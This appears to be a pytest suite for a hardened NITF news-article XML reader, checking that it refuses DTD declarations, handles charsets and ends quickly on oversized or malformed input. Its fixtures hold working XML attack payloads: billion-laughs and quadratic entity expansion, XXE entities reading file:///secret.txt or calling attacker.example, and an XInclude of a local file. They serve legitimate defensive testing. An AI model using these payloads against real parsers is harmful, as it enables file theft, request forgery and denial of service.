"""XML from anywhere: read as data, whatever it asks of its parser, and in whatever charset it comes."""

import time
from collections.abc import Callable

import pytest

from standfirst.domain.article import Article
from standfirst.domain.errors import DocumentTooLarge, InvalidDocument, ReadingError, UnreadableText

Read = Callable[..., Article]

LEAD = "The ferry across the Sele is to return in June, the council of Brackenford said on Tuesday."
SECONDS = 3


def _nitf(text: str = LEAD, before: str = "", attributes: str = "") -> str:
    return f"{before}<nitf {attributes}><body><body.content><p>{text}</p></body.content></body></nitf>"


def _declaring(*declarations: str) -> str:
    return f"<!DOCTYPE nitf [{' '.join(declarations)}]>"


LAUGHS = [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10)]


@pytest.mark.parametrize(
    "document",
    [
        _nitf("&l9;", _declaring('<!ENTITY l0 "ha">', *LAUGHS)),
        _nitf("&a;" * 50_000, _declaring(f'<!ENTITY a "{"a" * 50_000}">')),
        _nitf("&secret;", _declaring('<!ENTITY secret SYSTEM "file:///secret.txt">')),
        _nitf("&secret;", _declaring('<!ENTITY secret SYSTEM "http://attacker.example/">')),
        _nitf(LEAD, _declaring('<!ENTITY % all SYSTEM "http://attacker.example/all.dtd"> %all;')),
        _nitf(LEAD, '<?xml version="1.0"?>\n<!-- a --><!DOCTYPE nitf PUBLIC "a[" "b>" [<!ENTITY a "b">]>'),
        _nitf(LEAD, _declaring('<!ATTLIST nitf baselang CDATA "xx">')),
    ],
    ids=["laughs", "quadratic", "file", "address", "parameter entity", "behind a DTD's name", "attributes"],
)
def test_a_document_that_declares_things_is_refused_at_once(read: Read, document: str) -> None:
    """Nothing of it is expanded or fetched, and the reason says what is wrong."""
    started = time.monotonic()

    with pytest.raises(InvalidDocument, match="DOCTYPE"):
        read(document, name="story.xml")

    assert time.monotonic() - started < SECONDS


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE nitf SYSTEM "nitf-3-4.dtd">',
        '<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.4//EN" "http://attacker.example/nitf-3-4.dtd">',
        "<!DOCTYPE nitf SYSTEM 'file:///secret.txt'>",
    ],
    ids=["file name", "address", "local file"],
)
def test_a_dtd_that_is_only_named_is_not_opened(read: Read, doctype: str) -> None:
    """Agencies name the DTD in every document; the story is read without it."""
    assert read(_nitf(before=doctype), name="story.xml").paragraphs == (LEAD,)


def test_an_xinclude_and_a_stylesheet_are_not_followed(read: Read) -> None:
    """They are an element without text and an instruction to somebody else."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///secret.txt" parse="text"/>'
    before = '<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/a.xsl"?>'

    assert read(_nitf(f"{include}{LEAD}", before), name="story.xml").paragraphs == (LEAD,)


def test_the_names_html_has_for_characters_are_read(read: Read) -> None:
    """The DTD that declares them is not opened, and text must not be lost for that."""
    marked = LEAD.replace(" ", "&nbsp;", 1).replace("council", "caf&eacute; &amp; council")

    assert read(_nitf(marked), name="story.xml").paragraphs == (LEAD.replace("council", "café & council"),)


@pytest.mark.parametrize("doctype", ["", '<!DOCTYPE nitf SYSTEM "nitf-3-4.dtd">'], ids=["without", "with a DTD"])
def test_an_entity_nobody_knows_is_an_error_and_not_a_gap(read: Read, doctype: str) -> None:
    """The reason names it."""
    with pytest.raises(InvalidDocument, match="'slug' not defined in line 1"):
        read(_nitf(f"{LEAD} &slug;", doctype), name="story.xml")


@pytest.mark.parametrize(
    "charset", ["utf-8", "utf-16", "iso-8859-1", "windows-1252", "iso-8859-15"], ids=lambda name: name
)
def test_the_declared_charset_is_read(read: Read, charset: str) -> None:
    """UTF-16 comes with its mark, as XML asks for."""
    text = "La mairesse a été élue à Brâckenford, où la fête était déjà terminée depuis l'été."
    document = _nitf(text, f'<?xml version="1.0" encoding="{charset}"?>\n')

    assert read(document.encode(charset), name="story.xml").paragraphs == (text,)


@pytest.mark.parametrize(
    ("declared", "really"),
    [("utf-16", "utf-8"), ("iso-8859-1", "utf-8"), ("utf-8", "windows-1252"), ("x-none", "utf-8")],
    ids=["UTF-8 said to be UTF-16", "UTF-8 said to be Latin-1", "Windows said to be UTF-8", "a charset of nobody's"],
)
def test_a_wrong_declaration_makes_no_mojibake(read: Read, declared: str, really: str) -> None:
    """The bytes know better."""
    text = "La mairesse a été élue à Brâckenford, où la fête était déjà terminée depuis l’été."
    document = _nitf(text, f'<?xml version="1.0" encoding="{declared}"?>')

    assert read(document.encode(really), name="story.xml").paragraphs == (text,)


def test_a_charset_of_eastern_europe_is_believed(read: Read) -> None:
    """Two charsets may both give letters; the declaration decides."""
    text = "Władze miasta poinformowały, że w środę odbędzie się spotkanie mieszkańców Łodzi."
    document = _nitf(text, '<?xml version="1.0" encoding="ISO-8859-2"?>')

    assert read(document.encode("iso-8859-2"), name="story.xml").paragraphs == (text,)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        ("<nitf>\n <body></nitf>", r"Opening and ending tag mismatch.* in line 2, column \d+\.$"),
        ("\n\n<nitf>\n <p>Text", r"line 4, column \d+\.$"),
        ('<?xml version="1.0"?>\n<nitf>\n <p>A & B</p></nitf>', r"line 3, column \d+\.$"),
        ("<nitf a='1' a='2'/>", r"line 1, column \d+\.$"),
    ],
    ids=["mismatch", "cut short", "bare ampersand", "attribute twice"],
)
def test_broken_xml_is_told_by_line_and_column(read: Read, document: str, reason: str) -> None:
    """What is broken is not mended, for nobody knows what is missing."""
    with pytest.raises(InvalidDocument, match=reason):
        read(document, name="story.xml")


@pytest.mark.parametrize(
    ("document", "error"),
    [
        (_nitf("<em>" * 1_000 + LEAD + "</em>" * 1_000), InvalidDocument),
        ("<nitf>" * 500_001, DocumentTooLarge),
        (_nitf("<em/>" * 500_100), DocumentTooLarge),
        ("<nitf " + "a" * 4_000_000, DocumentTooLarge),
        ("<nitf>" + "<!--" * 1_000_000, ReadingError),
        (_nitf(before="<!DOCTYPE nitf '" + "'" * 1_000_000), ReadingError),
        (_nitf(f"{LEAD}\x01\x02"), ReadingError),
        (_nitf(f"{LEAD}&#0;"), InvalidDocument),
        (_nitf(f"{LEAD}" + "\ufffd" * 4), UnreadableText),
    ],
    ids=["deep", "unclosed", "many tags", "endless name", "comments", "quotes", "controls", "NUL", "lost letter"],
)
def test_a_document_made_to_hurt_ends_in_a_reason_soon(read: Read, document: str, error: type[ReadingError]) -> None:
    """No recursion, no waiting."""
    started = time.monotonic()

    with pytest.raises(error, match=r"\.$"):
        read(document, name="story.xml")

    assert time.monotonic() - started < SECONDS


@pytest.mark.parametrize(
    "document",
    [
        _nitf(attributes=" ".join(f'a{number}="{"x" * 20}"' for number in range(150_000))),
        _nitf(attributes=f'a="{"x" * 5_000_000}"'),
        _nitf("<em>" * 240 + LEAD + "</em>" * 240),
        _nitf(before="<!-- a -->\n" * 300_000),
        _nitf("<q>" * 200 + "“" + LEAD + "”" + "</q>" * 200),
    ],
    ids=["many attributes", "a long attribute", "nested", "comments before the root", "quotations in quotations"],
)
def test_an_odd_document_is_read_soon(read: Read, document: str) -> None:
    """Five megabytes of something else leave the story as it is."""
    started = time.monotonic()

    article = read(document, name="story.xml")

    assert LEAD in article.text
    assert time.monotonic() - started < SECONDS
